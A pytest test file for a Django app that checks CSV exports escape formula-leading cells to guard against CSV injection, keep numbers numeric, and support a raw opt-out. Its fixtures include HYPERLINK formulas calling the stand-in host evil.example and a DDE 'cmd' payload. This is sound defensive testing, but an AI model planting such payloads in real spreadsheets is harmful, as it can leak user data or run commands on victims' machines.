"""F-8: every CSV export quotes formula-like text cells (OWASP), keeps numbers numeric,
and gives the stored values back with ``?raw=1``."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pandas as pd
import pytest
from django.urls import reverse

from frontend import csv_safety
from tests.hostile import build_hostile_project

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def formula(name: str) -> str:
    """A formula-leading payload per field; the first character rotates over OWASP's list."""
    return PREFIXES[sum(map(ord, name)) % len(PREFIXES)] + f"HYPERLINK(\"http://evil.example/?{name}\",\"x\")"


@pytest.mark.parametrize("value, expected", [
    pytest.param("=1+2", "'=1+2", id="equals"),
    pytest.param("+SUM(A1)", "'+SUM(A1)", id="plus"),
    pytest.param("-2+3", "'-2+3", id="minus"),
    pytest.param("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0", id="minus-dde"),
    pytest.param("+1", "+1", id="plus-number-is-inert"),
    pytest.param("-Y_I-RbTO-zAy7uI", "-Y_I-RbTO-zAy7uI", id="generated-id-is-inert"),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
    pytest.param("\t=1", "'\t=1", id="tab"),
    pytest.param("\r=1", "'\r=1", id="cr"),
    pytest.param("-0.5", "-0.5", id="negative-number-as-text-is-inert"),
    pytest.param("- 5", "'- 5", id="minus-space"),
    pytest.param("plain", "plain", id="plain"),
    pytest.param(" =1", " =1", id="space-first"),
    pytest.param("", "", id="empty"),
    pytest.param(-0.5, -0.5, id="float-stays-number"),
    pytest.param(-3, -3, id="int-stays-number"),
    pytest.param(None, None, id="none"),
    pytest.param(True, True, id="bool"),
])
def test_escape_cell(value, expected):
    assert csv_safety.escape_cell(value) == expected


def test_escape_frame_keeps_numeric_columns_numeric():
    frame = pd.DataFrame({"label": ["=evil", "ok"], "theta": [-0.5, 1.25], "n": [-1, 2],
                          "mixed": ["-x y", None]})
    out = csv_safety.escape_frame(frame)
    assert list(out["label"]) == ["'=evil", "ok"]
    assert list(out["theta"]) == [-0.5, 1.25] and out["theta"].dtype == float
    assert list(out["n"]) == [-1, 2]
    assert out["mixed"].iloc[0] == "'-x y" and pd.isna(out["mixed"].iloc[1])
    assert list(frame["label"]) == ["=evil", "ok"]  # input untouched
    assert "-0.5" in out.to_csv(index=False)


@pytest.mark.parametrize("query, raw", [({}, False), ({"raw": "1"}, True), ({"raw": "true"}, True),
                                        ({"raw": "0"}, False), ({"raw": ""}, False)])
def test_raw_requested(query, raw):
    assert csv_safety.raw_requested(query) is raw


def test_sql_escape_on_the_database():
    """The COPY path's SQL expression gives the same cells as escape_cell."""
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("E'' literals are PostgreSQL syntax; the COPY path runs only there")
    values = ["=1", "+1", "-1", "@x", "\t1", "\r1", "ok", "", "'=already", None, "-a_b.c-d", "-2+3",
              "-x(1)", "+ 1"]
    with connection.cursor() as cursor:
        for value in values:
            cursor.execute(f"SELECT {csv_safety.sql_escape('v')} FROM (SELECT %s::text AS v) AS t", [value])
            assert cursor.fetchone()[0] == csv_safety.escape_cell(value)


@pytest.fixture
def hostile(tmp_path, wav, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    return build_hostile_project(slug="fx", text=formula, folder=tmp_path / "bank", wav=wav)


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _export_urls(h) -> dict[str, str]:
    slug, fit, camp = h.project.slug, h.fit.pk, h.campaign.slug
    from frontend.selectors import TABLES
    from irt.selectors import REPORT_TABLES

    urls = {
        "page responses": reverse("frontend:export_responses", args=[slug, "csv"]),
        "api responses": reverse("api-export-responses", args=[slug]) + "?as=csv",
        "judge agreement": reverse("judging:agreement", args=[slug]) + "?format=csv",
        "irt table2": reverse("irt:table2", args=[slug]) + "?format=csv",
        "dashboard page table": reverse("frontend:dashboard", args=[slug]) + "?format=csv&table=models",
    }
    urls.update({f"dashboard {name}": reverse("frontend:dashboard_table", args=[slug, name, "csv"]) for name in TABLES})
    urls.update({f"irt {key}": reverse("irt:fit_table", args=[slug, fit, key]) for key in REPORT_TABLES})
    urls.update({f"annotation {table}": reverse("annotation:campaign_export", args=[slug, camp, table, "csv"])
                 for table in ("ratings", "agreement", "mos", "koala", "decisions", "raters", "exclusions")})
    return urls


def _check_escaped(name: str, text: str) -> int:
    """Assert no formula-leading text cell; return how many escaped payload cells there were."""
    escaped = 0
    for cell in _cells(text):
        if cell.startswith(tuple(PREFIXES)):
            # numbers, and signed words of letters/digits/_.- only (generated ids such as
            # "-1m1wYN...", 1 in 32 of them): neither can carry a formula (csv_safety's rule)
            assert _is_number(cell) or re.fullmatch(csv_safety.INERT_SIGNED, cell), f"{name}: formula-leading cell {cell!r}"
        if cell.startswith("'") and "evil.example" in cell:
            escaped += 1
    return escaped


def test_every_csv_export_escapes_formula_cells(client, hostile):
    client.force_login(hostile.owner)
    seen = {}
    for name, url in _export_urls(hostile).items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        seen[name] = _check_escaped(name, _body(response).decode("utf-8"))
    # the exports that carry user text really had payloads to escape (the audit's list)
    for name in ("page responses", "api responses", "dashboard models", "irt responders", "irt ranking",
                 "annotation ratings", "annotation mos", "dashboard page table"):
        assert seen[name] > 0, f"{name}: no payload reached this export, the check proves nothing"
    assert seen["page responses"] == seen["api responses"]


def test_numeric_columns_stay_numeric(client, hostile):
    client.force_login(hostile.owner)
    url = reverse("irt:fit_table", args=[hostile.project.slug, hostile.fit.pk, "responders"])
    frame = pd.read_csv(io.BytesIO(client.get(url).content))
    assert pd.api.types.is_float_dtype(frame["theta"]) and (frame["theta"] < 0).any()


@pytest.mark.parametrize("name", ["page responses", "api responses", "annotation ratings", "irt responders",
                                  "dashboard models", "judge agreement"])
def test_raw_opt_out_gives_stored_values(client, hostile, name):
    client.force_login(hostile.owner)
    url = _export_urls(hostile)[name]
    text = _body(client.get(url + ("&" if "?" in url else "?") + "raw=1")).decode("utf-8")
    raw_cells = [c for c in _cells(text) if c.startswith(tuple(PREFIXES)) and not _is_number(c)]
    if name == "judge agreement":  # no user text in it; raw=1 is accepted all the same
        assert not raw_cells and "'" not in text
        return
    assert raw_cells, f"{name}: raw=1 did not give the stored text back"
    assert not [c for c in _cells(text) if c.startswith("'") and "evil.example" in c]


@pytest.mark.parametrize("api", [False, True])
def test_bundle_tables_are_escaped_and_raw_opt_out(client, hostile, api):
    client.force_login(hostile.owner)
    slug = hostile.project.slug
    url = reverse("api-export-bundle", args=[slug]) if api else reverse("frontend:export_bundle", args=[slug])
    for raw in (False, True):
        archive = zipfile.ZipFile(io.BytesIO(_body(client.get(url + ("?raw=1" if raw else "")))))
        csvs = [n for n in archive.namelist() if n.endswith(".csv")]
        assert csvs
        escaped = 0
        for member in csvs:
            text = archive.read(member).decode("utf-8")
            if raw:
                escaped += sum(cell.startswith(tuple(PREFIXES)) and not _is_number(cell) for cell in _cells(text))
            else:
                escaped += _check_escaped(member, text)
        assert escaped > 0  # models.csv and annotation_*_mos.csv carry the system name
